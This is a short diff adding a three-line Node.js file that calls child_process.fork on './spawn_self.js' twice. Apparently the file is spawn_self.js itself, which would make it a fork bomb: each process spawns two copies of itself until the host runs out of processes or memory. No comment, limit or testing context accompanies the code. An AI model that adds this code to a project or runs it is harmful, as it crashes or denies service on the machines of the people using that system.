@@ -1,0 +1,3 @@
+const { fork } = require('child_process');
+fork('./spawn_self.js');
+fork('./spawn_self.js');
